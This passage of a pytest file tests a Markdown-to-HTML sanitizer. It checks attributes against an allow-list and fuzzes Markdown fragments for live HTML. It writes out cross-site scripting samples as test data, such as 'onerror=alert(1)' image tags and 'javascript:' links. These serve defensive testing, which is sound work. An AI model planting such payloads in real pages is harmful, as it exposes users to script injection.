        r"\.\./README\.md|#[\w-]*|[\w.-]*(?:mailto:)?[\w.-]+@[\w.-]+|[\w.,*+=' -]*",
        "title": r"[\s\S]*",
    },
    "img": {"src": r"(?:\.\./)?assets/[\w.%~-]+", "alt": r"[\s\S]*", "title": r"[\s\S]*"},
    "code": {"class": r"language-[\w+#.-]+"},
    "pre": {"lang": r"[\w+#.-]+"},
    "ol": {"start": r"[0-9]+"},
    "td": {"align": r"left|center|right", "style": r"text-align: ?(?:left|center|right);?"},
    "th": {"align": r"left|center|right", "style": r"text-align: ?(?:left|center|right);?"},
    "div": {"class": "toc"},
    "input": {"type": "checkbox", "checked": "", "disabled": ""},
    **{f"h{level}": {"id": r"[\w-]+"} for level in range(1, 7)},
}


def faults(html: str) -> list[str]:
    """What of an HTML page is off the list of what may be there."""
    found = []
    root = LexborHTMLParser(f"<!doctype html><body>{html}</body>").root
    assert root is not None
    for node in root.traverse(include_text=False):
        tag = node.tag or ""
        if tag not in ELEMENTS and tag not in SAFE:
            found.append(f"<{tag}>")
        for name, value in node.attributes.items():
            if not re.fullmatch(SAFE.get(tag, {}).get(name, "(?!)"), value or "", re.IGNORECASE | re.ASCII):
                found.append(f"<{tag} {name}={value}>"[:200])
    return found


def _seen(html: str) -> str:
    """All that a page shows, and the addresses and titles of its links."""
    root = LexborHTMLParser(f"<!doctype html><body>{html}</body>").root
    assert root is not None
    parts = [root.text(deep=True)]
    for node in root.css("a, img"):
        parts += [value or "" for value in node.attributes.values()]
    return " ".join(parts)


ALL: Final = [payload for payloads in PAYLOADS.values() for payload in payloads]


def _live(pages: Mapping[str, str], readers: Iterable[str] = READERS) -> list[str]:
    return [
        f"{path} by {reader}: {fault}"
        for path, page in pages.items()
        for reader in readers
        for fault in faults(READERS[reader](page))
    ]


def test_there_are_many_texts_and_each_is_there_once() -> None:
    assert len(ALL) >= 200
    assert len(set(ALL)) == len(ALL)


@pytest.mark.quick_cases(every=4)
@pytest.mark.parametrize("kind", PAYLOADS)
def test_no_text_of_a_card_is_live(kind: str) -> None:
    cards = tuple(_cards(PAYLOADS[kind]))
    assert _live(_pages(_deck(), cards)) == []


@pytest.mark.quick_cases(every=4)
@pytest.mark.parametrize("kind", PAYLOADS)
def test_no_text_of_the_deck_is_live(kind: str) -> None:
    for payload in PAYLOADS[kind]:
        hostile = _text(payload)
        pages = _pages(_deck(payload), [_card(1, title=hostile, tags=(hostile,)), _card(2)])
        assert _live(pages, ("cmark-gfm", "Python-Markdown")) == [], payload


@pytest.mark.parametrize("kind", ["raw HTML", "split tags", "comments and declarations", "blocks", "tables"])
def test_lint_finds_the_html_that_commonmark_finds(kind: str) -> None:
    for payload in PAYLOADS[kind]:
        found = [fault for fault in faults(_github(payload)) if "javascript" not in fault and "evil" not in fault]
        if found:
            assert scan(payload).html, (payload, found)


def test_lint_finds_the_address_that_commonmark_finds() -> None:
    for payload in PAYLOADS["link destinations"] + PAYLOADS["beyond bounds"]:
        # What is a formula here is not for CommonMark.
        if "$" not in payload and any("href=javascript:" in fault for fault in faults(_github(payload))):
            assert any("javascript" in link.target.lower() or "&" in link.target for link in scan(payload).links()), (
                payload
            )


# What follows a fence's language, definitions, pictures that are not the deck's, and tags that are allowed.
_UNSEEN: Final = re.compile(
    r"!\[[\s\S]*\)|(?<=figure:f\)).*|figure|\]\(card:XX0000\)|</?(?:kbd|u|b|em|br)>"
    r"|^[ >-]*(?:`{3,}|~{3,})[^\n`]*$|^[ >-]*\[[^\]]*\]:\s*<?https://.*$",
    re.MULTILINE,
)
_WORD: Final = re.compile(r"[A-Za-z]{3,}")


@pytest.mark.parametrize("kind", PAYLOADS)
def test_no_word_is_lost(kind: str) -> None:
    pages = _pages(_deck(), [_card(number, details=_text(text)) for number, text in enumerate(PAYLOADS[kind], 1)])
    for number, payload in enumerate(PAYLOADS[kind], 1):
        page = next(page for path, page in pages.items() if path.endswith(f"/cards/ML{number:04}.md"))
        seen = _seen(_github(page))
        expected = _WORD.findall(re.sub(r"&#?\w+;?|\\", " ", _UNSEEN.sub("", payload)))
        assert [word for word in expected if word not in seen] == [], (payload, page)


# --- Mixes -----------------------------------------------------------------------------------------------------------

PIECES: Final = (
    *("<", ">", "</", "/>", "<!--", "-->", "<?", "?>", "<![CDATA[", "]]>", "<!x", "&lt;", "&#60;", "\\", "\\<", "\\`"),
    *("script", "img", " src=x", " onerror=alert(1)", "<img src=x onerror=alert(1)>", "<b>", "</b>", "<u", "<br>"),
    *("<https://a.example/onclick=alert(1)>", "http://", "www.", "a@b.example", "xmpp:", "ftp://", "javascript:"),
    *("[", "]", "(", ")", "![", "](", "[x](", "[x](javascript:alert(1))", "[x](https://a.example)", "![x](", "]:"),
    *("[r]", "[r]: ", "\n[r]: javascript:alert(1)", "[^1]", "\n[^1]: ", "*[x]: ", "![](../assets/f.svg)"),
    *("{", "}", "{: onclick=alert(1)}", "{onclick=alert(1)}", "onclick=alert(1)", '"', "'", "=", "|", "-", ":"),
    *("`", "``", "```", "\n```\n", "\n~~~\n", "````", "~~~", "$", "$$", "$`", "`$", "*", "_", "**", "~~", "_x_", "*x*"),
    *("\n", "\n\n", " ", "  ", "    ", "\t", "\n    ", "\n> ", "\n- ", "\n  ", "\n1. ", "\n# ", "\n===\n", "\n---\n"),
    *("| a |\n| - |\n| ", "\n: ", "a", "x ", "\x02", "\r", "math\n", "{.x", "\ufffd", "\u00a0"),
)


@given(
    st.lists(st.sampled_from(PIECES), min_size=1, max_size=14).map("".join), st.sampled_from(["", "- a\n\n  ", "> "])
)
def test_no_mix_of_signs_is_live(text: str, before: str) -> None:
    part = guarded(before + text)
    pages = {"open": f"# Title\n\n{part}\n\nEnd.\n", "folded": f"<details>\n\n{part}\n\n</details>\n\nEnd.\n"}
    assert _live(pages) == []


@pytest.mark.quick_cases(every=3)
@pytest.mark.parametrize("piece", PIECES)
def test_a_page_of_one_sign_takes_linear_time(piece: str) -> None:
    def seconds(length: int) -> float:
        text = piece * (length // len(piece))
        start = time.process_time()
        guarded(text)
        return time.process_time() - start

    assert_seconds_linear(seconds, 10_000, factor=8, noticeable=0.003)
